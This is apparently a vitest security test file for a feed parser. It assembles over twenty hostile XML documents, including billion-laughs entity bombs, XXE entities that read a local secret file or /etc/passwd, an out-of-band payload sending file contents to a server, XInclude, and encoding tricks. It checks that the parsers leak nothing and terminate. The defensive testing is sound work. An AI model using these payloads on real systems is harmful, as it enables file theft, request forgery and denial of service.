// Documents that make XML parsers read files, ask servers, or use up memory and time, at every door that reads XML. They
// run in a thread that is ended when one takes too long, beside a file and a server that nobody may come to.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeText } from '../../src/feeds/decode.js';
import { listedSitemaps } from '../../src/feeds/news-sitemap.js';
import { parseOpml } from '../../src/feeds/opml.js';
import { parseFeed } from '../../src/feeds/parse.js';
import { WatchedThread } from '../fuzz/watched-thread.js';

const SECRET = 'words-of-a-file-of-this-machine';
const folder = mkdtempSync(join(tmpdir(), 'feedmill-xml-'));
const secret = join(folder, 'secret.txt');
writeFileSync(secret, SECRET);

let asked = 0;
let server: Server;
let origin = '';
const thread = new WatchedThread();
beforeAll(async () => {
  server = createServer((_request, response) => {
    asked++;
    response.end(SECRET);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await thread.stop();
  server.close();
  rmSync(folder, { recursive: true });
});

const item = (title: string): string =>
  `<rss version="2.0"><channel><title>T</title><item><title>${title}</title><link>https://a.example/1</link></item></channel></rss>`;
const declared = (subset: string, title: string): string =>
  `<?xml version="1.0"?><!DOCTYPE rss [${subset}]>${item(title)}`;
const laughs = (count: number, each: number): string =>
  Array.from({ length: count }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(each)}">`).join('');
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

/** The attacks, once the file and the server have addresses. */
const attacks: Readonly<Record<string, () => string | Buffer>> = {
  'a billion laughs': () => declared(`<!ENTITY l0 "ha">${laughs(30, 10)}`, '&l30;'),
  'laughs in an attribute': () =>
    declared(`<!ENTITY l0 "ha">${laughs(20, 10)}`, 'x').replace('version="2.0"', 'version="&l20;"'),
  'one large entity, named again and again': () =>
    declared(`<!ENTITY a "${'a'.repeat(50_000)}">`, '&a;'.repeat(50_000)),
  'an entity that names itself': () => declared('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'),
  'parameter entities that multiply': () =>
    declared(`<!ENTITY % a "${'x'.repeat(1_000)}"><!ENTITY % b "${'%a;'.repeat(1_000)}">%b;%b;`, 'x'),
  'a file as an entity': () => declared(`<!ENTITY f SYSTEM "file://${secret}">`, '&f;'),
  'a file as a parameter entity': () => declared(`<!ENTITY % f SYSTEM "file://${secret}">%f;`, 'x'),
  'a server as an entity': () => declared(`<!ENTITY f SYSTEM "${origin}/entity">`, '&f;'),
  'an external DTD': () => `<!DOCTYPE rss SYSTEM "${origin}/rss.dtd">${item('&f;')}`,
  'a public DTD': () => `<!DOCTYPE rss PUBLIC "-//X//Y" "${origin}/public.dtd">${item('&f;')}`,
  'a file sent to a server': () =>
    declared(
      `<!ENTITY % f SYSTEM "file://${secret}"><!ENTITY % d SYSTEM "${origin}/d.dtd">%d;<!ENTITY % s "<!ENTITY &#37; t SYSTEM '${origin}/?%f;'>">%s;%t;`,
      'x',
    ),
  'an unparsed entity': () =>
    declared(`<!NOTATION n SYSTEM "${origin}/n"><!ENTITY u SYSTEM "${origin}/u" NDATA n>`, '&u;'),
  'XInclude of a file': () =>
    item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secret}" parse="text"/>`),
  'XInclude of a server': () =>
    item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${origin}/xi"/>`),
  'a stylesheet and a schema': () =>
    `<?xml-stylesheet type="text/xsl" href="${origin}/s.xsl"?>${item('x').replace('<rss', `<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ${origin}/s.xsd"`)}`,
  'an attribute of ten megabytes': () =>
    item('x').replace('version="2.0"', `version="${'a'.repeat(10_000_000)}"`),
  'a million prefixes': () =>
    item('x').replace(
      '<rss',
      `<rss ${Array.from({ length: 250_000 }, (_, at) => `xmlns:a${at}="u"`).join(' ')}`,
    ),
  'a hundred thousand levels': () => item(`${'<a>'.repeat(100_000)}x`),
  'a document in UTF-7': () =>
    `<?xml version="1.0" encoding="UTF-7"?>${item('+ADwAIQ-ENTITY f SYSTEM +ACI-file:///etc/passwd+ACIAPg-')}`,
  'a DTD in UTF-16 behind a declaration of UTF-8': () =>
    utf16(
      `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [<!ENTITY f SYSTEM "file://${secret}">]>${item('&f;')}`,
    ),
  'a DTD in EBCDIC’s name': () =>
    `<?xml version="1.0" encoding="IBM037"?><!DOCTYPE rss SYSTEM "file://${secret}">${item('&f;')}\xff`,
  'CDATA that never ends': () => item(`<![CDATA[${'<![CDATA['.repeat(100_000)}`),
  'a comment that never ends': () => item(`<!--${'--'.repeat(500_000)}`),
  'references beyond Unicode': () => item('&#x110000;&#xD800;&#0;&#99999999999999999999;&#x;'.repeat(10_000)),
};

describe('a hostile XML document', () => {
  it.each(Object.entries(attacks))('reads nothing, asks nobody, and ends: %s', async (_, write) => {
    expect(Object.keys(attacks).length).toBeGreaterThanOrEqual(20);
    const bytes = Buffer.from(write());
    for (const target of ['feeds', 'opml'] as const)
      expect((await thread.run({ target, inputs: [bytes] })).findings).toEqual([]);
    const { text } = decodeText(bytes, { contentType: 'application/xml' });
    const options = { url: 'https://a.example/feed', now: new Date(0) };
    const read = [parseFeed(text, options), parseOpml(text), listedSitemaps(text, options.url)];
    expect(JSON.stringify(read)).not.toContain(SECRET);
    expect(JSON.stringify(read).length).toBeLessThan(25_000_000);
    expect(asked).toBe(0);
  });
});
